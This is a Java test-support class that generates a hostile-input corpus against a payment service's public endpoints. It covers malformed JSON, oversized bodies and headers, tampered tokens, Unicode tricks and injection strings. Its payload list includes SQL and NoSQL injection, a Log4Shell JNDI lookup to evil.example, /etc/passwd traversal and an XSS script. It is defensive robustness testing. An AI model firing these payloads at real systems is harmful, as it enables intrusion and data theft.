package com.chatpay.reliability.input;

import com.chatpay.reliability.input.PublicEndpoints.Access;
import com.chatpay.reliability.input.PublicEndpoints.Endpoint;
import com.chatpay.reliability.input.PublicEndpoints.Field;
import com.chatpay.reliability.input.PublicEndpoints.Kind;
import com.chatpay.reliability.input.PublicEndpoints.PathParam;
import com.chatpay.reliability.input.PublicEndpoints.QueryParam;
import com.chatpay.stack.service.ChatpayService;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.util.RawValue;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

/**
 * Generates the hostile-input corpus: every endpoint of {@link PublicEndpoints} crossed with every mutation kind that
 * applies to it (its body as a whole, each body field by what it holds, its path and query parameters, its headers,
 * its bearer token). Nothing is written by hand per case: adding an endpoint or a field to the table adds its
 * cases.
 */
public final class HostileCorpus {

    /** The classes of bad input the report counts separately. */
    public enum InputClass {
        MALFORMED_JSON, WRONG_TYPES, MISSING_FIELDS, EXTRA_FIELDS, HUGE_BODY, HUGE_NUMBERS, BAD_AMOUNTS,
        OUT_OF_RANGE, UNKNOWN_CURRENCY, UNICODE, INJECTION, INVALID_IDS_AND_CURSORS, CONTENT_TYPE,
        OVERSIZE_HEADERS, TAMPERED_GATEWAY_TOKENS, BAD_AUTHORIZATION_TOKENS
    }

    /**
     * One hostile request. {@code expected} narrows the acceptable statuses (empty: any 4xx); {@code serverLayer}
     * marks a request the HTTP codec itself refuses before any application code runs (oversize headers).
     */
    public record HostileRequest(InputClass inputClass, ChatpayService service, String endpoint, String description,
            String method,
            String path, Map<String, String> headers, String body, Set<Integer> expected,
            boolean serverLayer) {
    }

    /** Spoiled variants of the credentials the corpus needs: gateway tokens and payment authorizations. */
    public interface Credentials {
        /** The good gateway token of the endpoint's baseline caller. */
        String bearer(Endpoint endpoint);

        /** Bad gateway tokens for that caller, by description. */
        Map<String, String> badBearers(Endpoint endpoint);

        /** Bad payment authorization tokens for the baseline payment, by description. */
        Map<String, String> badAuthorizations(String goodToken);
    }

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "1; DROP TABLE payment; --",
            "\"},\"admin\":true,{\"",
            "{\"$ne\": null}",
            "${jndi:ldap://evil.example/a}",
            "../../../../etc/passwd",
            "<script>alert(1)</script>");
    private static final List<String> MALFORMED = List.of("{", "{\"a\":}", "[1,2", "{\"x\":1}}", "nul",
            "{'single':'quotes'}", "{\"a\":NaN}", "", "null", "[]", "\"just a string\"");
    private static final String LONE_SURROGATE = "\"ab\\ud800cd\"";
    private static final String TEN_K = "a".repeat(10_000);

    private static final ObjectMapper JSON = new ObjectMapper();

    private final Credentials credentials;
    private final List<HostileRequest> cases = new ArrayList<>();

    private HostileCorpus(Credentials credentials) {
        this.credentials = credentials;
    }

    /** The corpus for these endpoints. */
    public static List<HostileRequest> generate(List<Endpoint> endpoints, Credentials credentials) {
        HostileCorpus corpus = new HostileCorpus(credentials);
        for (Endpoint endpoint : endpoints) {
            corpus.tokens(endpoint);
            corpus.headers(endpoint);
            corpus.pathParams(endpoint);
            corpus.queryParams(endpoint);
            if (endpoint.hasBody()) {
                corpus.wholeBody(endpoint);
                for (Field field : endpoint.fields()) {
                    corpus.field(endpoint, field);
                }
            }
        }
        return List.copyOf(corpus.cases);
    }

    // ---- credentials and headers ---------------------------------------------------------------------------------

    private void tokens(Endpoint e) {
        if (e.access() == Access.PUBLIC) {
            return;
        }
        credentials.badBearers(e).forEach((description, token) -> {
            Map<String, String> headers = baseHeaders(e);
            headers.put("Authorization", token == null ? null : "Bearer " + token);
            add(InputClass.TAMPERED_GATEWAY_TOKENS, e, description, e.path(), headers, baseBody(e), Set.of(401));
        });
        Map<String, String> basic = baseHeaders(e);
        basic.put("Authorization", "Basic dXNlcjpwYXNzd29yZA==");
        add(InputClass.TAMPERED_GATEWAY_TOKENS, e, "Basic credentials instead of a bearer token", e.path(), basic,
                baseBody(e), Set.of(401));
    }

    private void headers(Endpoint e) {
        Map<String, String> padded = baseHeaders(e);
        padded.put("X-Padding", "p".repeat(64 * 1024));
        cases.add(new HostileRequest(InputClass.OVERSIZE_HEADERS, e.service(), e.name(), "64 KB header", e.method(),
                e.path(), padded, baseBody(e), Set.of(431), true));
        if (e.headers().get().containsKey("Idempotency-Key")) {
            Map<String, String> huge = baseHeaders(e);
            huge.put("Idempotency-Key", "k".repeat(20 * 1024));
            cases.add(new HostileRequest(InputClass.OVERSIZE_HEADERS, e.service(), e.name(), "20 KB Idempotency-Key",
                    e.method(), e.path(), huge, baseBody(e), Set.of(431), true));
            Map<String, String> keys = new LinkedHashMap<>();
            keys.put("missing", null);
            keys.put("blank", " ");
            keys.put("65 characters", "k".repeat(65));
            keys.put("non-ASCII", "clé-ünïcode");
            keys.put("with spaces", "a key with spaces");
            keys.forEach((description, key) -> {
                Map<String, String> headers = baseHeaders(e);
                headers.put("Idempotency-Key", key);
                add(InputClass.INVALID_IDS_AND_CURSORS, e, "Idempotency-Key " + description, e.path(), headers,
                        baseBody(e), Set.of());
            });
        }
    }

    // ---- path and query ------------------------------------------------------------------------------------------

    private void pathParams(Endpoint e) {
        for (PathParam p : e.pathParams()) {
            List<String> values = switch (p.kind()) {
                case UUID -> List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g", java.util.UUID.randomUUID()
                        .toString(), "%27%20OR%20%271%27%3D%271", "%00", "u".repeat(300));
                case COUNTRY -> List.of("fra", "F%27R", "%00", "FR%20OR%201%3D1", "%E2%80%AEFR", "9Z");
                case USER_ID -> List.of("u".repeat(300), "a%00b", "%00");
            };
            for (String value : values) {
                add(InputClass.INVALID_IDS_AND_CURSORS, e, "path " + p.name() + "=" + abbreviate(value),
                        e.path(Map.of(p.name(), value)), baseHeaders(e), baseBody(e), Set.of());
            }
        }
    }

    private void queryParams(Endpoint e) {
        for (QueryParam q : e.queryParams()) {
            for (String value : q.invalid()) {
                add(InputClass.INVALID_IDS_AND_CURSORS, e, "query " + q.name() + "=" + abbreviate(value),
                        e.path() + "?" + q.name() + "=" + value, baseHeaders(e), baseBody(e), Set.of());
            }
        }
    }

    // ---- body ----------------------------------------------------------------------------------------------------

    private void wholeBody(Endpoint e) {
        for (String text : MALFORMED) {
            add(InputClass.MALFORMED_JSON, e, "body " + (text.isEmpty() ? "empty" : abbreviate(text)), e.path(),
                    jsonHeaders(e), text, Set.of(400));
        }
        Map<String, Object> admin = e.body().get();
        admin.put("isAdmin", true);
        add(InputClass.EXTRA_FIELDS, e, "extra field isAdmin", e.path(), jsonHeaders(e), json(admin), Set.of(400));
        Map<String, Object> other = e.body().get();
        other.put("userId", "someone-else");
        add(InputClass.EXTRA_FIELDS, e, "extra field userId (a user id from the body)", e.path(), jsonHeaders(e),
                json(other), Set.of(400));
        e.fields().stream().filter(f -> f.path().contains(".")).map(f -> f.path().substring(0, f.path().indexOf('.')))
                .distinct().forEach(parent -> {
                    Map<String, Object> nested = e.body().get();
                    set(nested, parent + ".unexpected", 1);
                    add(InputClass.EXTRA_FIELDS, e, "extra field in " + parent, e.path(), jsonHeaders(e),
                            json(nested), Set.of(400));
                });
        Map<String, Object> huge = e.body().get();
        huge.put("padding", "x".repeat(2 * 1024 * 1024));
        add(InputClass.HUGE_BODY, e, "2 MB body", e.path(), jsonHeaders(e), json(huge), Set.of(413));
        String valid = json(e.body().get());
        Map<String, String> xml = baseHeaders(e);
        xml.put("Content-Type", "application/xml");
        add(InputClass.CONTENT_TYPE, e, "application/xml", e.path(), xml, "<request><a>1</a></request>",
                Set.of(415));
        Map<String, String> text = baseHeaders(e);
        text.put("Content-Type", "text/plain");
        add(InputClass.CONTENT_TYPE, e, "text/plain with a JSON body", e.path(), text, valid, Set.of(415));
        Map<String, String> form = baseHeaders(e);
        form.put("Content-Type", "application/x-www-form-urlencoded");
        add(InputClass.CONTENT_TYPE, e, "form-encoded", e.path(), form, "a=1&b=2", Set.of(415));
        add(InputClass.CONTENT_TYPE, e, "no Content-Type", e.path(), baseHeaders(e), valid, Set.of(415));
    }

    private void field(Endpoint e, Field f) {
        boolean numeric = f.kind() == Kind.AMOUNT || f.kind() == Kind.INTEGER;
        List<Object> wrongTypes = switch (f.kind()) {
            case AMOUNT, INTEGER -> List.of("100", List.of(1), new RawValue("true"));
            case BOOLEAN -> List.of("true", 1, Map.of());
            default -> List.of(12345, Map.of("a", 1), new RawValue("false"));
        };
        for (Object wrong : wrongTypes) {
            mutate(InputClass.WRONG_TYPES, e, f, "wrong type " + describe(wrong), body -> set(body, f.path(), wrong));
        }
        if (f.required()) {
            mutate(InputClass.MISSING_FIELDS, e, f, "missing", body -> remove(body, f.path()));
            mutate(InputClass.MISSING_FIELDS, e, f, "null", body -> set(body, f.path(), null));
        }
        if (numeric) {
            for (String huge : List.of("1e400", "9223372036854775808", "-9223372036854775809", "1" + "0".repeat(40))) {
                mutate(InputClass.HUGE_NUMBERS, e, f, huge, body -> set(body, f.path(), new RawValue(huge)));
            }
        }
        switch (f.kind()) {
            case AMOUNT -> {
                for (String bad : List.of("-100", "0", "10.5", "1.0", "-0.01")) {
                    mutate(InputClass.BAD_AMOUNTS, e, f, bad, body -> set(body, f.path(), new RawValue(bad)));
                }
            }
            case INTEGER -> {
                for (String bad : f.invalid()) {
                    mutate(InputClass.OUT_OF_RANGE, e, f, bad, body -> set(body, f.path(), new RawValue(bad)));
                }
                mutate(InputClass.OUT_OF_RANGE, e, f, "fractional", body -> set(body, f.path(), new RawValue("7.5")));
            }
            case CODE -> {
                if (f.path().endsWith("currency")) {
                    for (String bad : List.of("ABC", "eur", "EURO", "€", "", "E\u0000R")) {
                        mutate(InputClass.UNKNOWN_CURRENCY, e, f, describe(bad), body -> set(body, f.path(), bad));
                    }
                }
                for (String bad : INJECTIONS) {
                    mutate(InputClass.INJECTION, e, f, bad, body -> set(body, f.path(), bad));
                }
                unicode(e, f, List.of("nul", "rtl", "surrogate", "10k"));
            }
            case TEXT -> unicode(e, f, List.of("nul", "rtl", "surrogate", "c1", "bell", "10k"));
            case ID -> unicode(e, f, List.of("nul", "surrogate", "10k"));
            case AUTHORIZATION -> {
                Map<String, Object> probe = e.body().get();
                String good = (String) get(probe, f.path());
                credentials.badAuthorizations(good).forEach((description, token) -> {
                    Map<String, Object> body = e.body().get();
                    set(body, f.path(), token);
                    add(InputClass.BAD_AUTHORIZATION_TOKENS, e, description, e.path(), jsonHeaders(e), json(body),
                            Set.of());
                });
            }
            default -> {
            }
        }
    }

    private void unicode(Endpoint e, Field f, List<String> kinds) {
        for (String kind : kinds) {
            mutate(InputClass.UNICODE, e, f, kind, body -> {
                Object base = get(body, f.path());
                String text = base instanceof String s && !s.isEmpty() ? s : "Ab";
                set(body, f.path(), switch (kind) {
                    case "nul" -> text.substring(0, 1) + "\u0000" + text.substring(1);
                    case "rtl" -> "\u202E" + text;
                    case "surrogate" -> new RawValue(LONE_SURROGATE);
                    case "c1" -> text + "\u009B31m";
                    case "bell" -> text + "\u0007";
                    default -> TEN_K;
                });
            });
        }
    }

    private void mutate(InputClass inputClass, Endpoint e, Field f, String description,
            java.util.function.Consumer<Map<String, Object>> change) {
        Map<String, Object> body = e.body().get();
        change.accept(body);
        add(inputClass, e, f.path() + ": " + abbreviate(description), e.path(), jsonHeaders(e), json(body), Set.of());
    }

    // ---- helpers -------------------------------------------------------------------------------------------------

    private void add(InputClass inputClass, Endpoint e, String description, String path, Map<String, String> headers,
            String body, Set<Integer> expected) {
        cases.add(new HostileRequest(inputClass, e.service(), e.name(), description, e.method(), path, headers, body,
                expected, false));
    }

    private Map<String, String> baseHeaders(Endpoint e) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (e.access() != Access.PUBLIC) {
            headers.put("Authorization", "Bearer " + credentials.bearer(e));
        }
        headers.putAll(e.headers().get());
        return headers;
    }

    private Map<String, String> jsonHeaders(Endpoint e) {
        Map<String, String> headers = baseHeaders(e);
        headers.put("Content-Type", "application/json");
        return headers;
    }

    private static String baseBody(Endpoint e) {
        return e.hasBody() ? json(e.body().get()) : null;
    }

    static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException ex) {
            throw new IllegalStateException(ex);
        }
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> parent(Map<String, Object> body, String path, boolean create) {
        String[] parts = path.split("\\.");
        Map<String, Object> node = body;
        for (int i = 0; i < parts.length - 1; i++) {
            Object child = node.get(parts[i]);
            if (!(child instanceof Map)) {
                if (!create) {
                    return null;
                }
                child = new LinkedHashMap<String, Object>();
                node.put(parts[i], child);
            } else if (!(child instanceof LinkedHashMap)) {
                child = new LinkedHashMap<>((Map<String, Object>) child);
                node.put(parts[i], child);
            }
            node = (Map<String, Object>) child;
        }
        return node;
    }

    private static String leaf(String path) {
        return path.substring(path.lastIndexOf('.') + 1);
    }

    static void set(Map<String, Object> body, String path, Object value) {
        parent(body, path, true).put(leaf(path), value);
    }

    static void remove(Map<String, Object> body, String path) {
        Map<String, Object> parent = parent(body, path, false);
        if (parent != null) {
            parent.remove(leaf(path));
        }
    }

    static Object get(Map<String, Object> body, String path) {
        Map<String, Object> parent = parent(body, path, false);
        return parent == null ? null : parent.get(leaf(path));
    }

    private static String describe(Object value) {
        if (value instanceof RawValue raw) {
            return raw.rawValue().toString();
        }
        if (value instanceof String s) {
            return "\"" + s.chars().mapToObj(c -> c < 0x20 || (c >= 0x7f && c < 0xa0) || c > 0x7e
                    ? String.format("\\u%04x", c) : String.valueOf((char) c)).collect(Collectors.joining()) + "\"";
        }
        return json(value);
    }

    static String abbreviate(String text) {
        String shown = text.length() > 40 ? text.substring(0, 20) + "…(" + text.length() + " chars)" : text;
        return shown.chars().mapToObj(c -> c < 0x20 || (c >= 0x7f && c < 0xa0) || (c >= 0x2000 && c < 0x2070)
                || Character.isSurrogate((char) c) ? String.format("\\u%04x", c) : String.valueOf((char) c))
                .collect(Collectors.joining());
    }

    /** Counts per class, for tests that want to know the corpus covers enough of each. */
    public static Map<InputClass, Long> countByClass(List<HostileRequest> corpus) {
        return corpus.stream().collect(Collectors.groupingBy(HostileRequest::inputClass,
                () -> new java.util.EnumMap<>(InputClass.class), Collectors.counting()));
    }
}
